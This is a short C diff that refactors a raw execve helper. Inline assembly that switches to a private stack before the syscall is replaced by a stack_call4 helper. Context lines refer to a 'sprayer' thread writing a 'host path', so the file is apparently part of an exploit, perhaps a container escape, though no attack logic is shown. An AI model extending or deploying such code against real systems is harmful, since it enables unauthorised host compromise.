@@ -24,6 +24,8 @@
 #include <time.h>
 #include <unistd.h>
 
+#include "stack_call.h"
+
 extern char **environ;
 
 static const char *target;            /* the host path the sprayer writes */
@@ -34,16 +36,8 @@ static char call_stack[16384] __attribute__((aligned(64)));
 
 static long raw_execve(const char *path, char *const argv[], char *const envp[])
 {
-	register unsigned long top __asm__("r12") = (unsigned long)(call_stack + sizeof(call_stack));
-	long ret;
-
-	__asm__ volatile("xchg %%rsp, %%r12\n\t"
-			 "syscall\n\t"
-			 "xchg %%rsp, %%r12"
-			 : "=a"(ret), "+r"(top)
-			 : "0"((long)SYS_execve), "D"(path), "S"(argv), "d"(envp)
-			 : "rcx", "r11", "memory");
-	return ret;
+	return stack_call4(call_stack + sizeof(call_stack), SYS_execve, (long)path, (long)argv,
+			   (long)envp, 0);
 }
 
 static void *sprayer(void *arg)
